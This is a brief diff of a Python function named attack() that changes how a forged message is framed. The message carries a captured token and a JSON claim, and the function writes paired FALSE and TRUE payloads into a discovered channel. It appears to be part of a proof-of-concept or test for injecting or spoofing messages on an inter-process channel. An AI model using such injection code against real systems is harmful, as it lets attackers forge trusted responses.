@@ -21,7 +21,9 @@ def the_channel():
 def attack():
     found = the_channel()
     header = json.dumps(CLAIM).encode()
-    start = struct.pack(">B16sII", ord("R"), found.token, len(header), 8) + header
+    lengths = b"[[%d,8]]" % len(header)
+    start = struct.pack(">B16sII", ord("R"), found.token, len(lengths), len(header) + 8)
+    start += lengths + header
     os.write(found.answers, start + FALSE + start + TRUE)
     time.sleep(1)
     return True
